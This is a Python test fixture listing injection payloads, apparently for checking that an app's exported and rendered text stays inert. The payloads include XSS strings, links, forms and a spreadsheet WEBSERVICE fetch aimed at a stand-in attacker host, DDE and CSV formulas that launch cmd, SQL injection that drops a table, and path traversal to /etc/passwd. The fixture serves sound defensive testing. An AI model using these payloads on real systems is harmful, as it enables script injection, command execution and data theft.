"""Text that an export may hold and that must stay text, wherever it is drawn or written.

`EVIL` is the host that nothing may ever be fetched from or lead to; a script that runs sets
`window.hostile`. Names here are what a test calls the payload, never what is in it.
"""

from __future__ import annotations

from collections.abc import Mapping

EVIL = "evil.example"
FLAG = "hostile"
_RUN = f"window.{FLAG}=1"

PAYLOADS: Mapping[str, str] = {
    # Markdown, as Streamlit renders it in every label
    "image": f"![x](https://{EVIL}/b.png)",
    "image by reference": f"![x][y] [y]: https://{EVIL}/c.png",
    "link": f"[log in](https://{EVIL}/login)",
    "link to a script": f"[log in](javascript:{_RUN})",
    "autolink": f"<https://{EVIL}/auto>",
    "bare address": f"https://{EVIL}/bare",
    "bare host": f"www.{EVIL}/bare",
    "mail address": f"<security@{EVIL}> security@{EVIL}",
    "no scheme": f"[log in](//{EVIL}/noscheme) //{EVIL}/noscheme",
    "heading": "# Signed out",
    "underlined heading": "Signed out\n==========",
    "list": "- one\n- two",
    "numbered": "1. Signed out",
    "quote": "> Signed out",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "code fence": "```html\n<b>x</b>\n```",
    "indented code": "    four spaces `and` ticks",
    "emphasis": "**bold** __bold__ *i* _i_ ~~gone~~",
    "rule": "---",
    "footnote": f"a[^1] [^1]: https://{EVIL}/f",
    "colour": ":red[Overdue] :red-background[x] :small[y] :gray-badge[z]",
    "icon": ":material/delete: :streamlit: :smile:",
    "formula of TeX": r"$\href{javascript:window.hostile=1}{x^2}$ $$y$$ \(z\)",
    "entities": f"&#x69;&lt;img src=x onerror=&quot;{_RUN}&quot;&gt;&amp;",
    "backslashes": r"\[x\](https://evil.example) \\ \<b\>",
    # HTML
    "script": f"<script>{_RUN}</script>",
    "image that fails": f'<img src=x onerror="{_RUN}">',
    "image elsewhere": f"<img src='https://{EVIL}/p.gif'>",
    "form": f'<form action="https://{EVIL}/f"><input name=p><button>Log in</button></form>',
    "frame": f'<iframe src="https://{EVIL}/"></iframe>',
    "svg": f"<svg onload={_RUN}><a xlink:href='https://{EVIL}/s'><text>x</text></a></svg>",
    "attribute broken out of": f"\"'><img src=x onerror={_RUN}>",
    "element closed": f"</title></textarea></style></script><script>{_RUN}</script>",
    "style": f"<style>@import 'https://{EVIL}/s.css'; body {{display: none}}</style>",
    "comment": "<!-- gone --><![CDATA[x]]>",
    "base": f'<base href="https://{EVIL}/"><meta http-equiv=refresh content="0;url=//{EVIL}">',
    "javascript address": f"javascript:{_RUN}//",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    # Plotly
    "link in a chart": f'<a href="https://{EVIL}/plotly">Alder</a>',
    "script link in a chart": f"<a href='javascript:{_RUN}'>Alder</a>",
    "tags in a chart": "<b>b</b><br><sup>up</sup><span style='color:red'>r</span><extra>e</extra>",
    "hover template": "%{x} %{customdata[0]} %{y:.2f}",
    # spreadsheets
    "formula": "=1+1",
    "formula with a command": "+cmd|' /C calc'!A0",
    "formula as a number": "-2+3",
    "formula of Lotus": "@SUM(1,1)",
    "formula after a tab": "\t=1+1",
    "formula after a line": "\r\n=1+1",
    "formula after a space": " =1+1",
    "formula after no width": "\u200b=1+1",
    "formula after a mark": "\ufeff=1+1",
    "formula after a hard space": "\u00a0=1+1",
    "formula after an apostrophe": "'=1+1",
    "formula after a quote": '"=1+1"',
    "formula after a separator": "a;=1+1,=1+1\t=1+1|=1+1",
    "formula, wide equals": "＝1+1",
    "formula, wide plus": "＋1+1",
    "formula, wide minus": "－1+1",
    "formula, wide at": "＠SUM(1,1)",
    "formula, true minus": "\u22121+1",
    "link of a spreadsheet": f'=HYPERLINK("https://{EVIL}/h","Alder")',
    "fetching formula": f'=WEBSERVICE("https://{EVIL}/w")&A1',
    "field of DDE": '=DDE("cmd";"/C calc";"x")',
    # the languages that reports and lookups are made in
    "typst code": '#import "@preview/x:1.0.0": * #read("/etc/passwd") $x$ *b* _e_ @ref <l>',
    "typst link": f'#link("https://{EVIL}/t")[Alder] #image("/etc/x.png")',
    "Jinja": "{{ 7*7 }}{% for x in y %}",
    "format string": "{0.__class__} %s %n ${x} #{7*7}",
    "SQL": "'; drop table accounts; --",
    "SQL identifier": 'a" or 1=1 --',
    "a path": "../../../etc/passwd",
    "a path of Windows": "..\\..\\CON|<>:?*.txt",
    # characters
    "bidirectional override": "Alder \u202egnp.exe\u202c \u2066x\u2069",
    "right to left": "שלום =1+1 مرحبا",
    "no width": "Al\u200bd\u200ce\u200dr\u2060 \u00ad",
    "NUL": "Al\x00der",
    "controls": "Al\x01der \x07\x08\x0b\x0c\x1b\x7f\x85",
    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "surrogate-like": r"\ud83d\ude00 \u003cimg\u003e 😀 𝕏",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇳🇴",
    "stacked marks": "Z" + "\u0301\u0323" * 30,
    "line separators": "one\u2028two\u2029three\u0085four",
    "nothing but space": "\u3000\u2003",
    "very long": "Alder & Sons " * 800,
    "one long word": "W" * 2_000,
}

# What a spreadsheet would compute, or a spreadsheet of some country or setting.
FORMULAS = tuple(name for name in PAYLOADS if "formula" in name and "TeX" not in name)
# A row with one is set aside, and says so.
REFUSED = ("NUL",)
# So long that a page of them would be a page of nothing else.
LONG = ("very long", "one long word")
